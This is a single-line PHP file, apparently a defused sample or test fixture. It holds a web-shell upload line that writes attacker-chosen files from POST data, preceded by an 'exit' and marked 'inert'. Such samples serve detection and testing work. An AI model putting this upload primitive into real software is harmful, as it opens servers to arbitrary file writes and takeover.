<?php exit; /* inert */ file_put_contents($_POST["n"],$_POST["d"]);
